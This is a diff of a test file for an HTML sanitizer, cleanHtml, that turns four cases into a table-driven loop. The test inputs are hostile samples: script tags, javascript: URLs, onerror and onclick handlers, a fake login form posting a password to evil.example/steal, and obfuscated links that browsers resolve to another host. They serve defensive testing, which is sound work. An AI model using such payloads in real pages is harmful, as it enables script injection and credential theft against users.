@@ -14,42 +14,49 @@ describe('cleanHtml', () => {
   });
 
   // The hostile cases of the browser journeys (e2e/member.spec.ts), now answered by the server.
-  it('removes scripts and script URLs and keeps the formatting', () => {
-    const html =
-      '<p>尊敬的会员，<strong>您的资料已更新</strong></p>' +
-      '<script>window.__xss = (window.__xss || 0) + 1</script>' +
-      '<a href="javascript:window.__xss = (window.__xss || 0) + 100">详情</a>';
-    expect(cleanHtml(html)).toBe('<p>尊敬的会员，<strong>您的资料已更新</strong></p><a>详情</a>');
-  });
-
-  it('removes event handlers and keeps the elements they were on', () => {
-    const html =
-      '<img src="data:image/png;base64,AAAA" alt="坏图" onerror="window.__xss = 1">' +
-      '<p onclick="window.__xss = 10">领取</p>';
-    expect(cleanHtml(html)).toBe('<img src="data:image/png;base64,AAAA" alt="坏图"><p>领取</p>');
-  });
-
-  // A form in an article or message could ask for a password and post it elsewhere: the controls go, their text stays.
-  it('removes forms and their controls and keeps the text', () => {
-    const html =
-      '<p>安全验证</p><form action="https://evil.example/steal" method="post"><fieldset><legend>登录</legend>' +
-      '<label for="p">密码</label><input id="p" type="password" name="password">' +
-      '<select name="bank"><option>招商银行</option></select><textarea name="note">备注</textarea>' +
-      '<button type="submit" formaction="https://evil.example/">提交</button></fieldset></form>';
-    expect(cleanHtml(html)).toBe('<p>安全验证</p>登录密码招商银行备注提交');
-  });
-
-  it('removes link and image addresses that browsers read as another host, and keeps our own', () => {
-    const html =
-      '<a href="/\\evil.example/x">一</a><a href="//evil.example/x">二</a><a href="/%2F%2Fevil.example">三</a>' +
-      '<a href="/%5Cevil.example">四</a><a href="\\\\evil.example">五</a><a href=" /\t/evil.example">六</a>' +
-      '<img src="/\\evil.example/x.png" alt="a"><img src="/uploads/ok.png" srcset="/uploads/ok.png 1x, //evil.example/x.png 2x" alt="b">' +
-      '<a href="/#/activity">活动</a><a href="https://m.example.com/a">站外</a>';
-    expect(cleanHtml(html)).toBe(
-      '<a>一</a><a>二</a><a>三</a><a>四</a><a>五</a><a>六</a><img alt="a"><img src="/uploads/ok.png" alt="b">' +
+  for (const { does, html, clean } of [
+    {
+      does: 'removes scripts and script URLs and keeps the formatting',
+      html:
+        '<p>尊敬的会员，<strong>您的资料已更新</strong></p>' +
+        '<script>window.__xss = (window.__xss || 0) + 1</script>' +
+        '<a href="javascript:window.__xss = (window.__xss || 0) + 100">详情</a>',
+      clean: '<p>尊敬的会员，<strong>您的资料已更新</strong></p><a>详情</a>',
+    },
+    {
+      does: 'removes event handlers and keeps the elements they were on',
+      html:
+        '<img src="data:image/png;base64,AAAA" alt="坏图" onerror="window.__xss = 1">' +
+        '<p onclick="window.__xss = 10">领取</p>',
+      clean: '<img src="data:image/png;base64,AAAA" alt="坏图"><p>领取</p>',
+    },
+    // A form in an article or message could ask for a password and post it elsewhere: the controls go, their text
+    // stays.
+    {
+      does: 'removes forms and their controls and keeps the text',
+      html:
+        '<p>安全验证</p><form action="https://evil.example/steal" method="post"><fieldset><legend>登录</legend>' +
+        '<label for="p">密码</label><input id="p" type="password" name="password">' +
+        '<select name="bank"><option>招商银行</option></select><textarea name="note">备注</textarea>' +
+        '<button type="submit" formaction="https://evil.example/">提交</button></fieldset></form>',
+      clean: '<p>安全验证</p>登录密码招商银行备注提交',
+    },
+    {
+      does: 'removes link and image addresses that browsers read as another host, and keeps our own',
+      html:
+        '<a href="/\\evil.example/x">一</a><a href="//evil.example/x">二</a><a href="/%2F%2Fevil.example">三</a>' +
+        '<a href="/%5Cevil.example">四</a><a href="\\\\evil.example">五</a><a href=" /\t/evil.example">六</a>' +
+        '<img src="/\\evil.example/x.png" alt="a"><img src="/uploads/ok.png" srcset="/uploads/ok.png 1x, //evil.example/x.png 2x" alt="b">' +
         '<a href="/#/activity">活动</a><a href="https://m.example.com/a">站外</a>',
-    );
-  });
+      clean:
+        '<a>一</a><a>二</a><a>三</a><a>四</a><a>五</a><a>六</a><img alt="a"><img src="/uploads/ok.png" alt="b">' +
+        '<a href="/#/activity">活动</a><a href="https://m.example.com/a">站外</a>',
+    },
+  ]) {
+    it(does, () => {
+      expect(cleanHtml(html)).toBe(clean);
+    });
+  }
 
   it('removes frames and SVG script hooks and keeps ordinary links', () => {
     const html =
